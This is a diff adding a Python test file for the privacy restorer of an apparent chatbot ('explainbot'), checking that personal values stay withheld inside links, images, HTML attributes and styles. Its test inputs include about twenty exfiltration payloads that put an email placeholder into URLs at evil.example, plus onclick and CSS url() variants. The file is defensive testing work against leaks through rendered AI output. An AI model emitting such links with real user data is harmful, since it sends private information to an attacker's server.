@@ -1,0 +1,139 @@
+"""In text that is shown, nothing personal is restored where a browser would fetch, follow or run it."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from itertools import pairwise
+
+import pytest
+from hypothesis import assume, given
+from hypothesis import strategies as st
+
+from explainbot.privacy import Restorer, Vault
+from explainbot.privacy.markup import Places
+
+VAULT = Vault()
+VAULT.placeholder_for("jane@canary.example", "EMAIL_ADDRESS")
+VAULT.placeholder_for("Canary Jane", "PERSON")
+VAULT.placeholder_for("https://u:p@canary.example/?q=", "URL")
+VAULT.placeholder_for("![x](//canary.example/", "CUSTOMER_DATA")
+
+
+def shown(text: str, cuts: list[int] | None = None) -> tuple[str, Restorer]:
+    restorer = Restorer(VAULT, shown=True)
+    marks = sorted({0, len(text), *[min(cut, len(text)) for cut in cuts or []]})
+    pieces = [text[start:end] for start, end in pairwise(marks)]
+    return "".join([restorer.feed(piece) for piece in pieces]) + restorer.flush(), restorer
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=[EMAIL_1])",
+        "![x](https://evil.example/?q=EMAIL_1)",
+        "[click](https://evil.example/[EMAIL_1]/a)",
+        "[click](/relative?q=[EMAIL_1])",
+        "[click]( <//evil.example/?q=[EMAIL_1]> )",
+        "[click](\nevil?q=[EMAIL_1])",
+        "[click](a(b)c\\)[EMAIL_1])",
+        "![x][ref]\n\n[ref]: //evil.example/?q=[EMAIL_1]",
+        "![x][ref]\n\n[ref]: evil?q=[EMAIL_1]",
+        "<https://evil.example/?q=[EMAIL_1]>",
+        "https://evil.example/?q=**[EMAIL_1]**",
+        'https://evil.example/?q="[EMAIL_1]',
+        "see www.evil.example/?q=[EMAIL_1]",
+        "https://[EMAIL_1].evil.example/",
+        "<img src='//evil.example/?q=[EMAIL_1]'>",
+        '<img alt=">" src="/log?q=[EMAIL_1]">',
+        "<a href=x onclick=send('[EMAIL_1]')>",
+        "<!-- [EMAIL_1] -->",
+        "<style>a{background:url(//evil.example/[EMAIL_1])}</style>",
+        "[URL_1][EMAIL_1]",
+        "[DATA_1][EMAIL_1])",
+    ],
+)
+def test_nothing_is_restored_inside_a_target(text: str) -> None:
+    result, restorer = shown(text)
+    assert "jane@canary" not in result
+    assert restorer.withheld == 1
+    for cut in range(len(text)):
+        assert shown(text, [cut])[0] == result
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("Hi [PERSON_1], we wrote to [EMAIL_1].", "Hi Canary Jane, we wrote to jane@canary.example."),
+        ("[PERSON_1]: done", "Canary Jane: done"),
+        ("<[EMAIL_1]>", "<jane@canary.example>"),
+        ("[[EMAIL_1]](https://shop.example/)", "[jane@canary.example](https://shop.example/)"),
+        (
+            "See https://shop.example/returns and write to [EMAIL_1]",
+            "See https://shop.example/returns and write to jane@canary.example",
+        ),
+        ("[policy](https://shop.example/a_(b)) [EMAIL_1]", "[policy](https://shop.example/a_(b)) jane@canary.example"),
+        ("<b>[PERSON_1]</b>", "<b>Canary Jane</b>"),
+        ("1 < 2, [PERSON_1]", "1 < 2, Canary Jane"),
+        ("| [PERSON_1] | [EMAIL_1] |", "| Canary Jane | jane@canary.example |"),
+        ("[ref]: /x\n[EMAIL_1]", "[ref]: /x\njane@canary.example"),
+        ("[a](\n\n[EMAIL_1]", "[a](\n\njane@canary.example"),
+    ],
+)
+def test_ordinary_text_is_restored(text: str, expected: str) -> None:
+    result, restorer = shown(text)
+    assert result == expected
+    assert restorer.withheld == 0
+
+
+MARKS = ["[EMAIL_1]", "EMAIL_1", "[PERSON_1]", "[URL_1]", "[DATA_1]", "[EMAIL_9]", "http:", "//", "/",
+         "www", ".", "](", "]:", "(", ")", "<", "a", ">",
+         '"', "'", "\\", "\n", " ", "!", "[", "]", "x", "<img src=", "://e.example/?q="]  # fmt: skip
+marked = st.lists(st.sampled_from(MARKS), max_size=24).map("".join)
+
+
+@given(marked, st.lists(st.integers(0, 150), max_size=6))
+def test_cutting_changes_nothing(text: str, cuts: list[int]) -> None:
+    result, whole = shown(text)
+    for where in (cuts, list(range(len(text)))):
+        cut_result, cut = shown(text, where)
+        assert cut_result == result
+        assert (cut.edits, cut.restored, cut.withheld, cut.unknown) == (
+            whole.edits,
+            whole.restored,
+            whole.withheld,
+            whole.unknown,
+        )
+
+
+class Attributes(HTMLParser):
+    """Every attribute that an HTML parser sees."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.seen: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.seen += [f"{name}={value}" for name, value in attrs]
+
+
+@given(marked)
+def test_no_restored_value_ends_up_in_a_url_or_an_attribute(text: str) -> None:
+    assume("<[DATA_1]" not in text and "<![" not in text)  # Python's parser gives up on "<!["
+    result, restorer = shown(text)
+    parser = Attributes()
+    parser.feed(result)
+    assert not [item for item in parser.seen if "jane@canary" in item]
+    for edit in restorer.edits:
+        run = re.split(r"[ \t\n\v\f\r<>)]", result[: edit.out_start])[-1]
+        assert "//" not in run
+        assert "www." not in run
+
+
+@given(marked)
+def test_places_depend_on_the_text_alone(text: str) -> None:
+    whole, cut = Places(), Places()
+    whole.feed(text)
+    for char in text:
+        cut.feed(char)
+    assert whole.inside == cut.inside
